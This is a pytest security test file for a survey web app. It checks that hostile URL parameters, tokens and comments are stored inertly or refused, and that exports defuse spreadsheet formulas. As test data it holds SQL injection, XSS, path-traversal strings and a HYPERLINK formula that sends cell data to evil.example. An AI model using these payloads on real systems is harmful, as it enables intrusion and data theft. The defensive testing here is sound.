"""Hostile and bad input, on SQLite and on a real PostgreSQL server: whatever arrives in the
URL or in a free-text answer is stored as inert text (or refused), never executed, never
rendered as markup, and never read as a path. The served app's file routes are attacked in
tests/test_served.py; blinding of everything the browser receives is checked there too."""

from __future__ import annotations

import base64
import hmac

import numpy as np
import pytest
from sqlalchemy import func, select
from streamlit.testing.v1 import AppTest

from db.models import Base, GridCondition, Participant, Response
from survey.participants import sanitize, service
from survey.study.export import tables
from tests.apptest import APP, admin_page, rendered
from tests.helpers import answer_all

HOSTILE = {
    "sql": "x'); DROP TABLE participants; --",
    "sql_union": "1' UNION SELECT grid_id, condition_id FROM grid_conditions --",
    "html": "<script>alert(document.cookie)</script><img src=x onerror=alert(1)>",
    "markdown": "[click me](javascript:alert(1)) ![pixel](http://evil.example/p.png) **bold**",
    "traversal": "../../../../etc/passwd",
    "traversal_windows": "..\\..\\..\\windows\\win.ini",
    "huge": "A" * 1_000_000,
    "unicode": "Zoë 名前 🙂 \u202eevil\u202c مرحبا",
    "nul_and_controls": "abc\x00def\x1b[31mred\r\n",
    "format_string": "%s%s%n {0} {__class__}",
}
EXPECTED_STORED = {
    "huge": "A" * sanitize.MAX_PARAM_LEN,
    "nul_and_controls": "abcdef[31mred",
}


def _row_counts(make_session) -> dict[str, int]:
    with make_session() as s:
        return {t.name: s.scalar(select(func.count()).select_from(t)) for t in Base.metadata.sorted_tables}


@pytest.mark.parametrize("kind", list(HOSTILE))
def test_hostile_url_parameters_are_stored_as_inert_text(study_db, kind):
    _, make_session, _ = study_db
    value = HOSTILE[kind]
    study = service.current_study(make_session)
    before = _row_counts(make_session)
    params = {"PROLIFIC_PID": value, "STUDY_ID": value, "SESSION_ID": value, "evil": value, "p": value}
    token = service.start_participant(make_session, study.id, params, np.random.default_rng(0))
    after = _row_counts(make_session)
    assert after["participants"] == before["participants"] + 1  # one new row and nothing else touched
    # the assignment's maintained counts gain at most one row per trial assigned (survey/participants/planning.py)
    assert after["unit_counts"] - before["unit_counts"] <= after["trials"] - before["trials"]
    planned = ("participants", "trials", "unit_counts")
    assert {k: v for k, v in after.items() if k not in planned} == {k: v for k, v in before.items() if k not in planned}
    stored = EXPECTED_STORED.get(kind, value)
    with make_session() as s:
        p = s.scalar(select(Participant).where(Participant.token == token))
        assert p.external_id == stored and p.source == "prolific"
        assert p.url_params == {"PROLIFIC_PID": stored, "STUDY_ID": stored, "SESSION_ID": stored}  # 'evil' dropped
    # the same hostile id resumes (it is an id like any other), and the study works on
    assert service.start_participant(make_session, study.id, params, np.random.default_rng(1)) == token
    answer_all(make_session, token, np.random.default_rng(0))
    assert service.participant_state(make_session, token).stage == "done"


@pytest.mark.parametrize(
    "token",
    [
        HOSTILE["sql"],
        "' OR '1'='1",
        HOSTILE["traversal"],
        HOSTILE["html"],
        "A" * 100_000,
        HOSTILE["unicode"],
        "%00",
        "None",
        "null",
    ],
)
def test_hostile_tokens_are_refused_without_effect(study_db, token, monkeypatch):
    url, make_session, _ = study_db
    study = service.current_study(make_session)
    real = service.start_participant(make_session, study.id, {}, np.random.default_rng(0))
    before = _row_counts(make_session)
    assert service.participant_state(make_session, token) is None
    assert service.participant_state(make_session, real + token[:5]) is None
    for call in (
        lambda: service.finish_instructions(make_session, token),
        lambda: service.submit_rating(make_session, token, 1, 4),
        lambda: service.submit_questions(make_session, token, {}, "x"),
    ):
        with pytest.raises(PermissionError):
            call()
    monkeypatch.setenv("LOOKALIKE_DB", url)
    at = AppTest.from_file(APP, default_timeout=60)
    at.query_params["p"] = token
    at.run()
    assert at.exception == [] and "not valid" in at.error[0].value
    assert _row_counts(make_session) == before


def test_trial_ids_of_other_participants_and_non_integers_are_refused(study_db):
    _, make_session, _ = study_db
    study = service.current_study(make_session)
    a = service.start_participant(make_session, study.id, {}, np.random.default_rng(0))
    b = service.start_participant(make_session, study.id, {}, np.random.default_rng(1))
    service.finish_instructions(make_session, b)
    b_trial = service.participant_state(make_session, b).trial.trial_id
    for trial_id in (b_trial, "1 OR 1=1", -1, 10**12, 1.5, None):
        with pytest.raises(PermissionError):
            service.submit_pairwise(make_session, a, trial_id, "left")
    for bad in ("left; DROP TABLE responses", "<b>left</b>", "", None):
        with pytest.raises(ValueError):
            service.submit_pairwise(make_session, b, b_trial, bad)
    with make_session() as s:
        assert s.scalar(select(func.count()).select_from(Response)) == 0


def test_hostile_comments_and_answers_are_stored_verbatim_and_never_rendered(study_db, monkeypatch, tmp_path):
    url, make_session, _ = study_db
    study = service.current_study(make_session)
    rng = np.random.default_rng(0)
    token = service.start_participant(make_session, study.id, {}, rng)
    answer_all(make_session, token, rng, finish=False)
    with pytest.raises(ValueError, match="is not an option of question 'age'"):
        service.submit_questions(make_session, token, {"age": HOSTILE["html"]}, None)
    with pytest.raises(ValueError, match="unknown question"):
        service.submit_questions(make_session, token, {HOSTILE["sql"]: "18-29"}, None)
    comment = HOSTILE["html"] + "\n" + HOSTILE["markdown"] + "\x00" + "z" * 20_000
    service.submit_questions(make_session, token, {"age": "30-49"}, comment)
    with make_session() as s:
        stored = s.scalar(select(Participant.comment).where(Participant.token == token))
    assert stored == (HOSTILE["html"] + "\n" + HOSTILE["markdown"] + "z" * 20_000)[: sanitize.MAX_COMMENT_LEN]
    assert tables(make_session, study.id)["participants"]["comment"].tolist() == [stored]  # export: verbatim
    # the admin page (signed in, unblinded) never renders participant text as markup
    at = admin_page(url, monkeypatch, "pw")
    at.text_input[0].input("pw")
    at.button[0].click().run()
    at.checkbox[0].check().run()
    assert at.exception == []
    [grid] = [d for d in at.dataframe if list(d.value.columns) == ["participant", "comment"]]
    assert grid.value["comment"].tolist() == [stored]  # shown as data in a grid
    page = rendered(at)
    for element in (*at.markdown, *at.caption, *at.error, *at.warning, *at.info, *at.success):
        assert "<script" not in element.value and "javascript:" not in element.value
    assert "onerror=alert" not in page.replace(repr(grid.proto), "")  # nowhere but in the grid's data


def test_participant_tokens_are_unguessable(study_db):
    _, make_session, _ = study_db
    study = service.current_study(make_session)
    tokens = [service.start_participant(make_session, study.id, {}, np.random.default_rng(0)) for _ in range(50)]
    assert len(set(tokens)) == 50  # the same rng seed for assignment does not make the same token
    for t in tokens:
        raw = base64.urlsafe_b64decode(t + "=" * (-len(t) % 4))
        assert len(raw) * 8 >= 128
    bits = np.unpackbits(
        np.frombuffer(b"".join(base64.urlsafe_b64decode(t + "=" * (-len(t) % 4)) for t in tokens), dtype=np.uint8)
    )
    assert abs(bits.mean() - 0.5) < 0.02  # 9,600 bits: no stuck bits, no counter


def test_admin_password_is_compared_in_constant_time(study_db, monkeypatch):
    calls = []
    real = hmac.compare_digest

    def spy(a, b):
        calls.append((a, b))
        return real(a, b)

    monkeypatch.setattr("survey.web.views.admin.hmac.compare_digest", spy)
    at = admin_page(study_db[0], monkeypatch, "correct horse")
    at.text_input[0].input("correct hors")
    at.button[0].click().run()
    assert at.error[0].value == "Wrong password." and not at.metric
    assert calls == [(b"correct hors", b"correct horse")]


def test_closed_and_full_studies_refuse_new_participants_politely(study_db, monkeypatch, capsys):
    from survey.cli import main

    url, make_session, _ = study_db
    study = service.current_study(make_session)
    started = service.start_participant(make_session, study.id, {"PROLIFIC_PID": "early"}, np.random.default_rng(0))
    assert main(["study", "close", "--db", url]) == 0
    assert main(["study", "list", "--db", url]) == 0
    listed = capsys.readouterr().out
    assert "t\tclosed\t" in listed and "1 started, 0 completed" in listed
    with pytest.raises(service.StudyUnavailable, match="not accepting participants"):
        service.start_participant(make_session, study.id, {}, np.random.default_rng(0))
    monkeypatch.setenv("LOOKALIKE_DB", url)
    at = AppTest.from_file(APP, default_timeout=60).run()
    at.button[0].click().run()  # "I agree, start"
    assert at.exception == [] and "not accepting new participants" in at.warning[0].value
    answer_all(make_session, started, np.random.default_rng(0))  # those who started can finish
    assert service.participant_state(make_session, started).stage == "done"
    assert main(["study", "open", "--db", url]) == 0
    service.start_participant(make_session, study.id, {}, np.random.default_rng(0))
    with make_session() as s:
        assert s.scalar(select(func.count()).select_from(Participant)) == 2
        assert s.scalar(select(func.count()).select_from(GridCondition)) > 0


def test_spreadsheet_safe_export_defuses_formulas_in_free_text(study_db, tmp_path):
    import pandas as pd

    from survey.study.export import export

    _, make_session, _ = study_db
    study = service.current_study(make_session)
    rng = np.random.default_rng(0)
    token = service.start_participant(make_session, study.id, {}, rng)
    answer_all(make_session, token, rng, finish=False)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    service.submit_questions(make_session, token, {}, formula)
    export(make_session, study.id, tmp_path / "plain")
    export(make_session, study.id, tmp_path / "safe", for_spreadsheets=True)
    plain = pd.read_csv(tmp_path / "plain" / "participants.csv")
    safe = pd.read_csv(tmp_path / "safe" / "participants.csv")
    assert plain["comment"].tolist() == [formula]  # verbatim by default, for R and pandas
    assert safe["comment"].tolist() == ["'" + formula]
    judgements = pd.read_csv(tmp_path / "safe" / "judgements.csv")
    assert not any(str(v).startswith(("=", "+", "-", "@")) for v in judgements.astype(str).stack())
